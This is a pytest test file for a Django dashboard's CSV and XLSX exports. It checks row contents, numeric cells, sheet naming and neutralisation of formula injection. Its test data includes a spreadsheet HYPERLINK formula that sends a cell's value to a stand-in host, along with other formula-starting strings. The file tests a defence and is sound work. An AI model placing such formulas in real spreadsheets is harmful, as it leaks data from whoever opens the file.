"""CSV and XLSX exports hold exactly the rows of the table (what the page
shows), counts as numbers, text that never runs as a formula, valid sheet
names, and the suppressed display cells when given."""

import csv
import io
from datetime import date

from django.utils import translation

import openpyxl
import pytest

from lms.csv_cells import neutralise_cell
from results.exports import (
    SHEET_NAME_LENGTH,
    XLSX_CONTENT_TYPE,
    csv_response,
    sheet_name,
    table_rows,
    xlsx_bytes,
    xlsx_response,
)
from results.selectors.dashboard import dashboard_tables
from results.tables import Table

from . import factories as f

FORMULA = '=HYPERLINK("https://example.com/?leak="&A1;"Klikk")'


def table(**fields) -> Table:
    return Table(
        **{
            "slug": "municipalities",
            "title": "Results by municipality",
            "row_heading": "Municipality",
            "rows": ("Asker", "Bærum"),
            "columns": ("Firms enrolled", "People taken in"),
            "values": ((2, 7), (1, 0)),
            "note": "By the municipality of the firm.",
            **fields,
        }
    )


def read_csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def read_xlsx(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def sheet_rows(sheet, count: int) -> list[list]:
    return [list(row) for row in sheet.iter_rows(max_row=count, values_only=True)]


# The rows ------------------------------------------------------------------------


def test_table_rows_are_the_header_then_each_labelled_row():
    assert table_rows(table()) == [
        ["Municipality", "Firms enrolled", "People taken in"],
        ["Asker", 2, 7],
        ["Bærum", 1, 0],
    ]


def test_display_cells_replace_the_counts():
    rows = table_rows(table(), cells=(("*", 7), (0, "*")))

    assert rows[1:] == [["Asker", "*", 7], ["Bærum", 0, "*"]]


def test_display_cells_of_another_shape_are_refused():
    with pytest.raises(ValueError, match="cells do not match"):
        table_rows(table(), cells=(("*", 7),))


# CSV -----------------------------------------------------------------------------


def test_csv_holds_exactly_the_table_rows():
    response = csv_response(table(), filename="kommuner.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="kommuner.csv"'
    assert read_csv(response) == [
        [str(value) for value in row] for row in table_rows(table())
    ]


def test_csv_holds_the_display_cells_when_given():
    response = csv_response(table(), filename="t.csv", cells=(("*", 7), (0, "*")))

    assert read_csv(response)[1:] == [["Asker", "*", "7"], ["Bærum", "0", "*"]]


def test_csv_text_never_starts_a_formula():
    hostile = table(rows=(FORMULA, "@SUM(1+1)"), columns=("-1", "+Tall"))

    rows = read_csv(csv_response(hostile, filename="t.csv"))

    assert rows[0] == ["Municipality", "'-1", "'+Tall"]
    assert [row[0] for row in rows[1:]] == ["'" + FORMULA, "'@SUM(1+1)"]


# XLSX ----------------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_table_with_exactly_its_rows_and_the_note():
    first = table()
    second = table(
        slug="years",
        title="Results by year",
        row_heading="Year",
        rows=("2024", "2025"),
        values=((3, 6), (4, 5)),
        note="",
    )

    book = read_xlsx(xlsx_bytes([first, second]))

    assert book.sheetnames == ["Results by municipality", "Results by year"]
    sheet = book["Results by municipality"]
    assert sheet_rows(sheet, 3) == table_rows(first)
    assert sheet.cell(row=5, column=1).value == "By the municipality of the firm."
    assert sheet.max_row == 5
    assert [cell.font.b for cell in sheet[1]] == [True, True, True]
    assert sheet.cell(row=2, column=2).data_type == "n"
    assert sheet_rows(book["Results by year"], 3) == table_rows(second)
    assert book["Results by year"].max_row == 3


def test_xlsx_holds_the_display_cells_of_each_table_when_given():
    book = read_xlsx(
        xlsx_bytes([table()], cells_by_slug={"municipalities": (("*", 7), (0, "*"))})
    )

    assert sheet_rows(book.active, 3)[1:] == [["Asker", "*", 7], ["Bærum", 0, "*"]]


def test_xlsx_text_never_becomes_a_formula():
    hostile = table(title="=Farlig", rows=(FORMULA, "Asker"), note="=1+1")

    sheet = read_xlsx(xlsx_bytes([hostile])).active

    cell = sheet.cell(row=2, column=1)
    assert (cell.value, cell.data_type) == ("'" + FORMULA, "s")
    assert sheet.cell(row=5, column=1).value == "'=1+1"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_drops_control_characters_excel_cannot_open():
    sheet = read_xlsx(xlsx_bytes([table(rows=("As\x00ker", "Bærum"))])).active

    assert sheet.cell(row=2, column=1).value == "Asker"


def test_xlsx_response_is_an_attachment():
    response = xlsx_response([table()], filename="resultater.xlsx")

    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == ('attachment; filename="resultater.xlsx"')
    assert read_xlsx(response.content).sheetnames == ["Results by municipality"]


@pytest.mark.parametrize(
    ("title", "taken", "expected"),
    [
        ("Results by year", [], "Results by year"),
        ("People taken in: by [year]?", [], "People taken in by year"),
        ("a/b\\c*d", [], "a b c d"),
        (
            "People taken in by arrangement and year",
            [],
            "People taken in by arrangement",
        ),
        ("Results by year", ["results BY year"], "Results by year (2)"),
        (
            "People taken in by arrangement and year",
            ["People taken in by arrangement"],
            "People taken in by arrangem (2)",
        ),
        ("'quoted'", [], "quoted"),
        ("  ", [], "Sheet"),
        ("History", [], "History (2)"),
    ],
)
def test_sheet_names_are_valid_and_unique(title, taken, expected):
    name = sheet_name(title, taken)

    assert name == expected
    assert len(name) <= SHEET_NAME_LENGTH


# The dashboard's own tables ------------------------------------------------------


@pytest.mark.django_db
def test_every_dashboard_table_exports_exactly_what_the_page_shows():
    run_ = f.run(title='=HYPERLINK("x")')
    f.certification(
        run_=run_,
        firm_=f.firm("+Kommune"),
        issued_on=date(2024, 3, 1),
        valid_until=date(2026, 3, 1),
    )
    f.bulk_programme(firms=6, years=2)
    with translation.override("en"):
        tables = dashboard_tables()

    book = read_xlsx(xlsx_bytes(tables))

    assert len(book.sheetnames) == len(tables) == len(set(book.sheetnames))
    for table_, name in zip(tables, book.sheetnames, strict=True):
        expected = [
            [neutralise_cell(value) for value in row] for row in table_rows(table_)
        ]
        assert sheet_rows(book[name], len(expected)) == expected
        assert read_csv(csv_response(table_, filename="t.csv")) == [
            [str(value) for value in row] for row in expected
        ]
    runs = book[book.sheetnames[[t.slug for t in tables].index("runs")]]
    assert '\'=HYPERLINK("x")' in [row[0] for row in sheet_rows(runs, 10)]
